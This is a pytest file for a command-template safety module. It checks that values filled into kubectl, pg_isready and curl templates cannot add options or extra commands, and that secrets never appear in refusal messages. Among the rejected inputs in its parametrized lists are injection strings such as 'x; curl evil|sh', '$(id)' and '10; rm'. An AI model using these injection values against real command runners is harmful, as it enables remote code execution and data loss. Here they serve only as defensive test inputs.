"""Values fill holes inside words: none makes a new word, an option, or another command."""

import pytest

from sirenbook.model.judgement import Judgement
from sirenbook.playbook.safety import Refused, bind, judge, render, reveal

DELETE = "kubectl delete pod <pod-name> -n agents"


def bound(text: str, **values: str) -> Judgement:
    return bind(judge(text), {k.replace("_", "-"): v for k, v in values.items()} | values)


@pytest.mark.parametrize(
    "value",
    ["--all", "-lapp=api", "--raw=/api/v1/x", "-f/etc/passwd", "", "x; curl evil|sh", "$(id)", "a b", "a\nb",
     "<pod-name>", "Ｘ", "a\0b", "../x", "x/y", "a,b"],
)  # fmt: skip
def test_a_value_that_is_no_name_is_refused(value: str) -> None:
    with pytest.raises(Refused) as refusal:
        bind(judge(DELETE), {"pod-name": value})
    assert "<pod-name>" in str(refusal.value)


@pytest.mark.parametrize("value", ["10; rm", "-1", "1e9", "０", "1.5", ""])
def test_a_number_is_digits(value: str) -> None:
    with pytest.raises(Refused):
        bind(judge("kubectl scale deployment api --replicas=<new-count> -n agents"), {"new-count": value})


@pytest.mark.parametrize("value", ["h -c \\! id", "h;id", "-h", "a b", "h\n", "[::1"])
def test_a_host_is_one_word(value: str) -> None:
    with pytest.raises(Refused):
        bind(judge("pg_isready -h $DB_HOST"), {"DB_HOST": value})


def test_a_value_fills_its_word_and_nothing_else() -> None:
    done = bound(DELETE, pod_name="api-7d9f")
    assert done.run is not None
    assert render(done.run) == "kubectl delete pod api-7d9f -n agents"
    assert done.parameters == ()


def test_without_a_value_nothing_is_bound() -> None:
    with pytest.raises(Refused, match="has no value"):
        bind(judge(DELETE), {})


def test_choices_are_the_playbooks() -> None:
    offered = judge("kubectl get pods -n [prod/staging]")
    assert [p.choices for p in offered.parameters] == [("prod", "staging")]
    with pytest.raises(Refused, match="one of prod, staging"):
        bind(offered, {"prod/staging": "kube-system"})


def test_a_secret_is_filled_in_last_and_not_before() -> None:
    text = 'curl -fsS -H "Authorization: Bearer $API_TOKEN" https://api.example.org/v1/<service>'
    done = bind(judge(text), {"service": "web", "API_TOKEN": "s3cret"})
    assert "s3cret" not in repr(done)
    if done.run is not None:
        assert reveal(done, {"API_TOKEN": "s3cret"}).pipelines[0].stages[0].words[3].spelled.endswith("s3cret")


def test_a_refusal_never_shows_a_secret() -> None:
    with pytest.raises(Refused) as refusal:
        reveal(judge("grep $API_TOKEN"), {"API_TOKEN": "two words"})
    assert "two words" not in str(refusal.value)
